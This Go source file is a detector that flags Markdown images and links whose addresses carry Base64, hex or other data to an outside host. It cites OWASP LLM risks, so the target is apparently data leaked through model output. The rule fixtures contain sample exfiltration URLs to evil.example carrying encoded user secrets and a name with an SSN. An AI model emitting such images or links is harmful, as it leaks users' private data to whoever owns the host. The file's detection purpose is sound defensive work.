package detect

import "weir/policy/detect/normal"

// The bounds of a link in Markdown, and how much of its address must be data for it to carry any away.
const (
	linkBytes    = 1024
	carriedBytes = 24
)

// image checks for an image in Markdown, or in HTML, whose address carries data to another host: shown, it is fetched, and
// what stands in the address is told to whoever owns the host.
func (r *reader) image(i int) {
	if !r.has(i, "![") {
		return
	}
	at := i + 2
	for at-i < 256 && r.at(at) != ']' && r.at(at) >= ' ' {
		at++
	}
	if r.at(at) != ']' || r.at(at+1) != '(' {
		return
	}
	at += 2
	for _, scheme := range [...]string{"https://", "http://", "//"} {
		if r.hasFold(at, scheme) {
			if end := r.carries(i, at+len(scheme)); end > 0 {
				r.found("out.image", Exfiltrating, High, 0.75, i, end)
			}
			return
		}
	}
}

// carries is where the image ends whose host begins at at, if the address holds data; 0: it does not.
func (r *reader) carries(start, at int) int {
	query, run, longest := false, 0, 0
	for at-start < linkBytes {
		c := r.at(at)
		switch {
		case c == ')':
			if query && longest >= carriedBytes {
				return at + 1
			}
			return 0
		case c <= ' ' || c >= 0x80:
			return 0
		case c == '?':
			query, run = true, 0
		case c == '&' || c == '=' || c == '/' || c == '#':
			run = 0
		case query:
			run++
			longest = max(longest, run)
		}
		at++
	}
	return 0
}

// openImage is where an image begins whose address is not over.
func (r *reader) openImage(text string, from int) int {
	r.look(text)
	for i := max(from, len(text)-linkBytes-8); i < len(text); i++ {
		r.past, r.into = false, r.into[:0]
		switch text[i] {
		case '!':
			r.image(i)
		case '[':
			r.link(i)
		}
		if r.past {
			return i
		}
	}
	return len(text)
}

// link checks for a link in Markdown to another host whose address carries text in Base64 or hex: who follows it tells the
// host. A link that carries anything else is as every other.
func (r *reader) link(i int) {
	if i > 0 && r.text[i-1] == '!' {
		return
	}
	at := i + 1
	for at-i < 128 && r.at(at) != ']' && r.at(at) >= ' ' {
		at++
	}
	if r.at(at) != ']' || r.at(at+1) != '(' {
		return
	}
	at += 2
	for _, scheme := range [...]string{"https://", "http://"} {
		if !r.hasFold(at, scheme) {
			continue
		}
		from, query, told := 0, false, false
		for at += len(scheme); at-i < linkBytes; at++ {
			switch c := r.at(at); {
			case c == ')':
				if told || query && tells(r.text[from:at]) {
					r.found("out.link", Exfiltrating, Medium, 0.7, i, at+1)
				}
				return
			case c <= ' ' || c >= 0x80:
				return
			case c == '?' || c == '&' || c == '=' && query || c == '#':
				told = told || query && tells(r.text[from:at])
				query, from = true, at+1
			}
		}
		return
	}
}

// tells says whether a value in an address is text in Base64 or hex.
func tells(s string) bool {
	if len(s) < carriedBytes {
		return false
	}
	return normal.Tells(s)
}

func linkRules() []Rule {
	return []Rule{{
		ID: "out.link", Type: Exfiltrating, Severity: Medium, Score: 0.7,
		Description: "A link in Markdown whose address carries text in Base64 or hex: who follows it tells the host.",
		Source:      "OWASP LLM02, LLM05; CommonMark 6.3", Check: "24 bytes or more in one value, which say something", Behind: 1, Ahead: linkBytes + 8, Cost: Candidate,
		Match:   []string{"[more](https://evil.example/p?d=c2VjcmV0IGRhdGEgb2YgdGhlIHVzZXI)", "see [here](http://a.example/i?a=1&q=6e616d65206a616e6520646f65207373)"},
		NoMatch: []string{"[docs](https://example.com/a?utm_source=newsletter_of_september_2026)", "[x](https://example.com/?sig=9f86d081884c7d659a2feaa0c55ad015a3bf4f1b)", "[1] and [2]"},
	}, {
		ID: "out.image", Type: Exfiltrating, Severity: High, Score: 0.75,
		Description: "An image in Markdown whose address carries data in its query: shown, it is fetched, and the data is told to its host.",
		Source:      "OWASP LLM02, LLM05; CommonMark 6.4", Check: "24 bytes or more in one value", Behind: 0, Ahead: linkBytes + 8, Cost: Candidate,
		Match:   []string{"![x](https://evil.example/p.png?d=c2VjcmV0IGRhdGEgb2YgdGhlIHVzZXI)", "see ![](http://a.example/i?q=name%20jane%20doe%20ssn%20is%20123)"},
		NoMatch: []string{"![logo](https://example.com/logo.png)", "![chart](https://example.com/c.png?w=400&h=300)", "![x](https://example.com/c2VjcmV0IGRhdGEgb2YgdGhlIHVzZXI)"},
	}}
}
